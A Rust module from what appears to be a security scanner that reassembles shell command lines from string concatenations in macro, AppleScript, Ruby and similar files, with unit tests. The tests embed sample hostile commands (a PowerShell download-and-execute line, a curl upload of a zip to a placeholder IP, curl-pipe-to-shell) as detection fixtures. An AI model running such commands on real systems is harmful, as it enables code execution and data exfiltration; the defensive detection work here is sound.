//! Programs in languages that are not parsed: the command lines in their texts.
//!
//! A macro, a script of macOS or a program in Ruby that does harm mostly hands a line to a shell.
//! Such a line is put together from literals and names (`"curl " & host`), as its language does;
//! what is not known of it is a [`HOLE`]. What such a program does by itself is not followed, but for
//! those in Go, which are read here too.

use std::borrow::Cow;
use std::collections::HashMap;

use super::lower::Place;
use super::sources::{Context, MAX_SOURCES, Source, SourceText, Standing, of_inline};
use super::spoken::holds_command;
use super::value::HOLE;
use crate::bundle::extension;
use crate::text::Span;

/// The longest text that is put together, in bytes.
const LONGEST: usize = 1_000;

/// The most names whose texts are known.
const MOST_NAMES: usize = 500;

/// The most bytes of texts of one file that are looked at.
const MOST_BYTES: usize = 1_000_000;

/// The most parts of what a name is called with.
const MOST_GIVEN: usize = 50;

/// How a language writes texts.
#[derive(Clone, Copy)]
struct Dialect {
    /// Marks around a text.
    quotes: &'static [char],
    /// What puts two texts together.
    joins: &'static [&'static str],
    /// What begins a remark.
    remarks: &'static [&'static str],
    /// Whether a backslash in a text says how to read the next character.
    has_escapes: bool,
}

/// The dialect of the file at `path`.
fn dialect(path: &str) -> Option<Dialect> {
    let (quotes, joins, remarks, has_escapes): (&[char], &[&str], &[&str], bool) =
        match extension(path).as_str() {
            "bas" | "cls" | "frm" | "vba" | "vbs" | "vb" => (&['"'], &["&", "+"], &["'"], false),
            "applescript" | "scptd" | "scpt" => (&['"'], &["&"], &["--", "#"], true),
            "rb" | "rake" | "gemspec" | "podspec" => {
                (&['"', '\'', '`'], &["+", "<<"], &["#"], true)
            }
            "php" | "phtml" => (&['"', '\'', '`'], &["."], &["//", "#"], true),
            "pl" | "pm" => (&['"', '\'', '`'], &["."], &["#"], true),
            "lua" => (&['"', '\''], &[".."], &["--"], true),
            "go" | "java" | "kt" | "kts" | "cs" | "swift" | "scala" | "groovy" | "gradle"
            | "rs" => (&['"', '`'], &["+"], &["//"], true),
            _ => return None,
        };
    Some(Dialect {
        quotes,
        joins,
        remarks,
        has_escapes,
    })
}

/// The command lines in the texts of the program `text` at `path`.
pub(super) fn commands<'v>(path: &str, text: &str) -> Vec<Source<'v>> {
    let Some(dialect) = dialect(path) else {
        return Vec::new();
    };
    let mut known = HashMap::new();
    let mut found = Vec::new();
    let (mut at, mut left) = (0, MOST_BYTES);
    for line in text.split_inclusive('\n') {
        let start = at;
        at += line.len();
        for said in texts(dialect, line, &known) {
            let Some(rest) = left.checked_sub(said.text.len()) else {
                return found;
            };
            left = rest;
            if let Some(name) = said.name.filter(|_| known.len() < MOST_NAMES) {
                known.insert(name.to_ascii_lowercase(), said.text.clone());
            }
            if found.len() < MAX_SOURCES && holds_command(&said.text) {
                found.push(source(said.text, said.span.shifted(start)));
            }
        }
    }
    found
}

fn source<'v>(command: String, span: Span) -> Source<'v> {
    Source {
        language: of_inline(&command),
        standing: Standing::File,
        place: Place {
            span,
            is_exact: false,
        },
        text: SourceText::Code(Cow::Owned(command)),
        context: Context::default(),
    }
}

/// A text that a line puts together.
struct Said<'t> {
    text: String,
    span: Span,
    /// The name it is given.
    name: Option<&'t str>,
}

/// A part of a line.
enum Part<'t> {
    Text(String),
    Name(&'t str),
    Join,
    Other(char),
}

/// The texts that `line` puts together, where names stand for what is `known`.
fn texts<'t>(dialect: Dialect, line: &'t str, known: &HashMap<String, String>) -> Vec<Said<'t>> {
    let parts = parts(dialect, line);
    let value = |name: &str| known.get(&name.to_ascii_lowercase());
    let mut found = Vec::new();
    let mut at = 0;
    while at < parts.len() {
        let first = at;
        let (mut text, mut has_text, mut is_joined) = (String::new(), false, true);
        while let Some((_, part)) = parts.get(at) {
            match part {
                Part::Text(literal) if is_joined => {
                    text.push_str(literal);
                    (has_text, is_joined) = (true, false);
                }
                Part::Name(name) if is_joined => {
                    // What a text is handed to is no part of it.
                    if at > first {
                        at += call(&parts[at + 1..]);
                    }
                    match value(name) {
                        Some(value) => {
                            text.push_str(value);
                            has_text = true;
                        }
                        None if is_quote(name) => text.push('"'),
                        None => text.push(HOLE),
                    }
                    is_joined = false;
                }
                // Words such as “quoted form of pw” are one part.
                Part::Name(name) if text.ends_with(HOLE) && value(name).is_none() => {}
                Part::Join if !is_joined => is_joined = true,
                _ => break,
            }
            at += 1;
            if text.len() > LONGEST {
                break;
            }
        }
        if has_text {
            let span = Span::new(parts[first].0.start, parts[at - 1].0.end);
            let name = assigned(&parts[..first]);
            found.push(Said { text, span, name });
        }
        at = at.max(first + 1);
    }
    found
}

/// Whether `name` is the call that stands for a quotation mark in Basic.
fn is_quote(name: &str) -> bool {
    ["chr", "chrw"].contains(&name.to_ascii_lowercase().as_str())
}

/// How many of `parts` are what a name is called with.
fn call(parts: &[(Span, Part<'_>)]) -> usize {
    if !matches!(parts.first(), Some((_, Part::Other('(')))) {
        return 0;
    }
    let mut given = parts.iter().take(MOST_GIVEN);
    let end = given.position(|(_, part)| matches!(part, Part::Other(')')));
    end.map_or(0, |end| end + 1)
}

/// The name that `parts`, which stand before a text, give it: `a =`, `set a to`.
fn assigned<'t>(parts: &[(Span, Part<'t>)]) -> Option<&'t str> {
    match parts {
        [.., (_, Part::Name(name)), (_, Part::Other('='))]
        | [
            ..,
            (_, Part::Name(name)),
            (_, Part::Other(':')),
            (_, Part::Other('=')),
        ] => Some(name),
        [
            ..,
            (_, Part::Name(set)),
            (_, Part::Name(name)),
            (_, Part::Name(to)),
        ] if *set == "set" && *to == "to" => Some(name),
        _ => None,
    }
}

/// The parts of `line` up to a remark.
fn parts(dialect: Dialect, line: &str) -> Vec<(Span, Part<'_>)> {
    let mut found = Vec::new();
    let mut at = 0;
    while let Some(c) = line[at..].chars().next() {
        let rest = &line[at..];
        let length = if dialect.remarks.iter().any(|mark| rest.starts_with(mark)) {
            break;
        } else if dialect.quotes.contains(&c) {
            let (text, length) = literal(dialect, rest, c);
            found.push((Span::new(at, at + length), Part::Text(text)));
            length
        } else if let Some(join) = dialect.joins.iter().find(|join| rest.starts_with(**join)) {
            found.push((Span::new(at, at + join.len()), Part::Join));
            join.len()
        } else if c.is_alphanumeric() || matches!(c, '_' | '$' | '@') {
            let is_part = |c: char| c.is_alphanumeric() || matches!(c, '_' | '$' | '@');
            let length = rest.find(|c| !is_part(c)).unwrap_or(rest.len());
            let name = rest[..length].trim_start_matches(['$', '@']);
            found.push((Span::new(at, at + length), Part::Name(name)));
            length
        } else {
            if !c.is_whitespace() {
                found.push((Span::new(at, at + c.len_utf8()), Part::Other(c)));
            }
            c.len_utf8()
        };
        at += length;
    }
    found
}

/// The text that begins with the mark `quote` of `rest`, and how long it is with its marks.
fn literal(dialect: Dialect, rest: &str, quote: char) -> (String, usize) {
    let mut text = String::new();
    let mut inner = rest.char_indices().skip(1).peekable();
    while let Some((at, c)) = inner.next() {
        if c == quote {
            // A mark twice is the mark itself in Basic.
            let is_doubled =
                !dialect.has_escapes && inner.peek().is_some_and(|(_, next)| *next == quote);
            if !is_doubled {
                return (text, at + quote.len_utf8());
            }
            inner.next();
            text.push(quote);
        } else if c == '\\' && dialect.has_escapes {
            match inner.next() {
                Some((_, 'n')) => text.push('\n'),
                Some((_, 't')) => text.push('\t'),
                Some((_, other)) => text.push(other),
                None => {}
            }
        } else {
            text.push(c);
        }
    }
    (text, rest.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(path: &str, text: &str) -> Vec<String> {
        let found = commands(path, text).into_iter();
        found
            .map(|source| match source.text {
                SourceText::Code(code) => code.into_owned(),
                SourceText::Words(words) => words.join(" "),
            })
            .collect()
    }

    #[test]
    fn a_line_for_the_shell_is_put_together() {
        let basic = "a = \"pow\" & \"ersh\" & \"ell -c \"\nb = \"iwr http://203.0.113.5/x.ps1 | iex\"\nsh.Run a & Chr(34) & b & Chr(34), 0 ' runs\n";
        assert_eq!(
            found("m.bas", basic),
            [
                "iwr http://203.0.113.5/x.ps1 | iex",
                "powershell -c \"iwr http://203.0.113.5/x.ps1 | iex\""
            ]
        );
        let script =
            "do shell script \"cd \" & tmp & \" && curl -s -F f=@o.zip http://203.0.113.5/in\"\n";
        let line = format!("cd {HOLE} && curl -s -F f=@o.zip http://203.0.113.5/in");
        assert_eq!(found("f.applescript", script), [line]);
    }

    #[test]
    fn words_and_remarks_are_no_commands() {
        assert!(
            found(
                "a.rb",
                "# curl https://a.example/x | sh\nputs \"curl up\"\n"
            )
            .is_empty()
        );
        assert!(found("a.txt", "\"curl https://a.example/x | sh\"").is_empty());
    }

    #[test]
    fn hostile_files_come_to_an_end() {
        for text in [
            "\"".repeat(100_000),
            "a & ".repeat(100_000),
            "x = \"curl a | sh\" & x\n".repeat(20_000),
            "f(".repeat(100_000),
        ] {
            assert!(commands("m.bas", &text).len() <= MAX_SOURCES);
        }
    }
}
